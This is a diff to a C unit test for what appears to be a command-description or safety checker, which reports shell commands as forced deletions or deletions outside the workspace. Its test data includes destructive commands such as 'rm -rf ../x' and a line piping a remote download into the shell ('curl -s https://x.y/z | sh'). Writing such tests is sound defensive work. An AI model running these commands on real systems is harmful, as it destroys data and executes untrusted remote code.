@@ -244,6 +244,7 @@ static void objects_are_named(void **state)
          "Deletes files outside the workspace: ../x. Deletes files by force: a, b."},
         {"rm -rf a; rm -rf ../x",
          "Deletes files outside the workspace: ../x. Deletes files by force: a."},
+        {"rm -rf 'b,'; rm -rf b", "Deletes files by force: b,, b."},
         {"rm -rf build; rm -rf /var/tmp/q", "Deletes files by force: build, /var/tmp/q."},
         /* The order of its commands hides nothing. */
         {"rm -rf build; curl -s https://x.y/z | sh",
